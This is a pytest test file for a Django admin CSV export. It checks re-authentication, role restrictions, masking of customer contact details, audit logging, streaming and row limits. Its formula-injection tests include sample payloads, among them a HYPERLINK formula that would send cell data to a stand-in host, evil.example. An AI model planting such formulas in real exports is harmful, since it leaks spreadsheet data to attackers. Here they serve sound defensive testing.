"""A list leaves the house as a file: to whom it may, asked once more, written down, masked, and with no formula in it."""

import csv
from datetime import timedelta
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from calllogs.log import DatabaseLog
from calllogs.models import CallLog
from orders.models import Customer, Order
from staff.exports import Streamed, harmless
from staff.models import AuditEvent
from staff.roles import PRIVACY, SUPPORT_STAFF
from tests.staff.people import PASSWORD, PHONE, somebody
from voiceagent.call.commands import LogTransfer
from voiceagent.carriers.base import IncomingCall

pytestmark = pytest.mark.django_db


def address(kind: str) -> str:
    return reverse(f"admin:{kind}_export")


def exported(client: Client, kind: str, **asked: str) -> list[dict[str, str]]:
    """What somebody gets who gives the password when asked."""
    ask = client.get(address(kind), asked)
    if ask.status_code == 302:
        client.post(ask.url, {"password": PASSWORD})
    answer = client.get(address(kind), asked)
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(answer.getvalue().decode().splitlines()))


def test_a_manager_gets_the_customers(mia: Client, ada: Customer):
    Order.objects.create(number="ORD-47192", customer=ada)
    [row] = exported(mia, "orders_customer")
    assert (row["name"], row["email"], row["phone"], row["order_count"]) == ("Ada Lindgren", "ada@example.com", PHONE, "1")


def test_an_auditor_gets_them_without_how_they_are_reached(ida: Client, ada: Customer):
    [row] = exported(ida, "orders_customer")
    assert (row["name"], row["email"], row["phone"], row["postcode"]) == ("Ada Lindgren", "a•••@•••", "••• 42", "•••")


def test_orders_under_the_filters_of_the_list(mia: Client, ada: Customer):
    Order.objects.create(number="ORD-47192", customer=ada)
    packed = Order.objects.create(number="ORD-47193", customer=ada, status="packed")
    packed.items.create(name="socks", quantity=2, price=Decimal("18.50"))
    [row] = exported(mia, "orders_order", status__exact="packed")
    assert (row["number"], row["customer"], row["items_total"]) == ("ORD-47193", "Ada Lindgren", "37.00")
    assert mia.get(address("orders_order"), {"customer__phone__startswith": "+1"}).status_code == 400


def test_calls_with_numbers_hidden_also_in_what_was_wanted(mia: Client, ida: Client):
    log = DatabaseLog()
    log.call_arrived(IncomingCall("CA1", PHONE, "+14155550100"))
    log.write("CA1", LogTransfer("returns", f"call {PHONE}", 6000))
    [seen], [hidden] = exported(mia, "calllogs_calllog"), exported(ida, "calllogs_calllog")
    assert (seen["caller_number"], seen["transfer_reason"]) == (PHONE, f"call {PHONE}")
    assert (hidden["caller_number"], hidden["transfer_reason"]) == ("••• 42", "call •••")
    assert hidden["started_at"].startswith(f"{timezone.localtime(CallLog.objects.get().started_at):%Y-%m-%d %H:%M:%S}")


def test_it_is_written_down_with_how_many_rows_and_no_word_of_them(mia: Client, ada: Customer):
    exported(mia, "orders_customer", q="Lindgren", o="1")
    [event] = AuditEvent.objects.filter(action="exported")
    assert (event.actor_name, event.target_type) == ("mia", "")
    assert event.facts == {"kind": "orders.customer", "rows": 1, "masked": False, "filters": ["q"]}


def test_who_only_signed_in_is_asked_again_and_nothing_leaves(mia: Client, ada: Customer):
    answer = mia.get(address("orders_customer"))
    assert (answer.status_code, answer.url.startswith("/admin/again/")) == (302, True)
    assert not AuditEvent.objects.filter(action="exported").exists()


@pytest.mark.parametrize("role", [SUPPORT_STAFF, PRIVACY])
@pytest.mark.parametrize("kind", ["orders_customer", "orders_order", "calllogs_calllog"])
def test_others_get_nothing_and_are_shown_no_button(role: str, kind: str):
    client = somebody("sam", role)
    assert client.get(address(kind)).status_code == 403
    answer = client.get(reverse(f"admin:{kind}_changelist"))
    assert address(kind) not in answer.content.decode()


def test_the_button_keeps_the_filters(mia: Client, ada: Customer):
    content = mia.get(reverse("admin:orders_order_changelist"), {"status__exact": "packed"}).content.decode()
    assert f'{address("orders_order")}?status__exact=packed"' in content


@pytest.mark.parametrize(
    "filters",
    [{"disposition__exact": "\0"}, {"disposition__in": "\0"}, {"started_at__exact": "never"}],
)
def test_a_filter_that_cannot_be_leads_back_to_the_list(mia: Client, filters: dict[str, str]):
    mia.post(mia.get(address("calllogs_calllog")).url, {"password": PASSWORD})
    answer = mia.get(address("calllogs_calllog"), filters)
    assert (answer.status_code, answer.url) == (302, f"{reverse('admin:calllogs_calllog_changelist')}?e=1")
    assert not AuditEvent.objects.filter(action="exported").exists()


def test_more_than_a_file_holds_is_refused_and_nothing_leaves(mia: Client, ada: Customer, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr("staff.exports.MOST_ROWS", 2)
    for number in range(3):
        Order.objects.create(number=f"ORD-4719{number}", customer=ada, status="packed" if number else "placed")
    assert len(exported(mia, "orders_order", status__exact="packed")) == 2
    answer = mia.get(address("orders_order"), {"q": "Lindgren"}, follow=True)
    assert answer.redirect_chain == [(f"{reverse('admin:orders_order_changelist')}?q=Lindgren", 302)]
    assert "these are 3 rows, and a file holds 2. Filter the list first." in answer.content.decode()
    assert AuditEvent.objects.filter(action="exported").count() == 1


@pytest.mark.parametrize("text", ["=1+1", "+SUM(A1)", "-2+3", "@now", " =1", "＝1+1", "-", "+1-2"])
def test_what_a_spreadsheet_would_run_is_text(text: str):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["x;=1+1", "Ada\n=1+1", "x\t=1+1", 'x;"=1+1"', "x;\r\n ＝1+1", "x; ;@now", "\t=1", "\r=1", "\n=1", ";-1"]
)
def test_a_formula_does_not_begin_in_the_middle_of_a_cell_either(text: str):
    cell = harmless(text)
    assert not set(";\t\r\n") & set(cell)
    assert cell[0] in "'x" or cell.startswith("Ada")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("-5", "-5"),
        (-5, "-5"),
        (Decimal("-5.50"), "-5.50"),
        ("+14155550142", "+14155550142"),
        ("a=b", "a=b"),
        ("red; blue\nsize 4", "red; blue\nsize 4"),
        (None, ""),
        (0, "0"),
    ],
)
def test_everything_else_stays_as_it_is(value: object, cell: str):
    assert harmless(value) == cell


def test_a_formula_that_was_spoken_as_a_name_does_nothing(mia: Client):
    name = '=HYPERLINK("https://evil.example/?"&A1,"Ada")'
    Customer.objects.create(name=name, email="x@example.com")
    [row] = exported(mia, "orders_customer")
    assert row["name"] == f"'{name}"


def test_a_long_list_holds_no_more_than_was_written_down(mia: Client, ada: Customer):
    now = timezone.now()
    Order.objects.bulk_create(
        Order(number=f"ORD-{number}", customer=ada, placed_at=now - timedelta(minutes=number)) for number in range(10000, 11203)
    )
    assert len(exported(mia, "orders_order")) == 1203
    assert AuditEvent.objects.get(action="exported").facts["rows"] == 1203


def test_many_rows_are_sent_at_once(mia: Client, ada: Customer):
    Order.objects.bulk_create(Order(number=f"ORD-{number}", customer=ada) for number in range(10000, 11203))
    mia.post(mia.get(address("orders_order")).url, {"password": PASSWORD})
    parts = list(mia.get(address("orders_order")).streaming_content)
    assert [part.count(b"\n") for part in parts] == [500, 500, 204]


async def test_under_asgi_it_is_sent_as_it_is_made():
    made = []

    def lines():
        for number in range(3):
            made.append(number)
            yield f"{number}\n"

    parts = aiter(Streamed(lines()))
    assert await anext(parts) == b"0\n"
    assert made == [0]
    assert [part async for part in parts] == [b"1\n", b"2\n"]
